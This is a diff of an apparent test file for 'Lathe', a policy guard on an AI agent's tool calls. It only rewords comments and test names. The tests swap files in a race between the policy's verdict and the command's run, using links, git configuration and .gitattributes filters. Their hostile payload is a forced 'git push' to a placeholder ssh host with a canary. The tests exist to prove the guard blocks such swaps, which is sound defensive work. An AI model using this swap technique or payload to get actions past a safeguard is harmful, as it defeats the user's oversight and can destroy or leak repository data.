@@ -1,4 +1,7 @@
-/** B3, B5, B6 and their neighbours: what a verdict or a trust rested on is exchanged before it runs, again and again. */
+/**
+ * Tests B3, B5, B6 and similar races: the files behind a verdict or trust are swapped before they run, again
+ * and again.
+ */
 import assert from "node:assert/strict";
 import { afterEach, beforeEach, describe, it } from "node:test";
 import { filterConfig, type HostilePlace, openHostilePlace } from "./hostile-place.ts";
@@ -7,7 +10,7 @@ type Call = readonly [tool: string, input: object];
 
 const rounds = Number(process.env.LATHE_ROUNDS ?? 6);
 
-describe("a file that is exchanged between the verdict and the run", () => {
+describe("a file swapped between the verdict and the run", () => {
   let at: HostilePlace;
   beforeEach(async () => {
     at = await openHostilePlace();
@@ -17,7 +20,7 @@ describe("a file that is exchanged between the verdict and the run", () => {
   afterEach(() => at.close());
 
   const nothingRan = (): void => assert.deepEqual(at.ran(), []);
-  /** A command of the session exchanges the files, because Lathe cannot pause processes of others. */
+  /** Swaps the files with a command of the session, because Lathe cannot pause processes of others. */
   function flip(name: string, [good, evil]: readonly [string, string], seconds = 0.02): void {
     for (const [path, text] of [
       [name, good],
@@ -38,11 +41,11 @@ describe("a file that is exchanged between the verdict and the run", () => {
       assert.match(at.sent(), /zz\/flip\.sh/, out + err);
     }
   }
-  /** An alias for it: policy asks about what it does, and never about what it is called. */
+  /** An alias for the attack: policy asks about its effects, not about its name. */
   const evil = (name: string): string =>
     `git push --force ssh://x/y HEAD 2>/dev/null; ${at.canary(name)} now`;
 
-  it("B3: is the configuration of git while policy looks for uncommitted changes", async () => {
+  it("B3: is git's configuration while policy looks for uncommitted changes", async () => {
     at.put(".gitattributes", "* filter=e\n");
     commit(at);
     const good = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";
@@ -85,7 +88,7 @@ describe("a file that is exchanged between the verdict and the run", () => {
     nothingRan();
   });
 
-  it("is a folder above the script, exchanged for a link", async () => {
+  it("is a folder above the script, swapped for a link", async () => {
     at.put("d1/s.sh", "true\n");
     at.put("d2/s.sh", `${evil("folder")}\n`);
     commit(at);
@@ -111,7 +114,7 @@ describe("a file that is exchanged between the verdict and the run", () => {
   }
 });
 
-/** The least that a server answers; its tool ends it, so that the next call starts it again. */
+/** A minimal server; its tool ends it, so that the next call starts it again. */
 const server = `
 import { createInterface } from "node:readline";
 const results = {
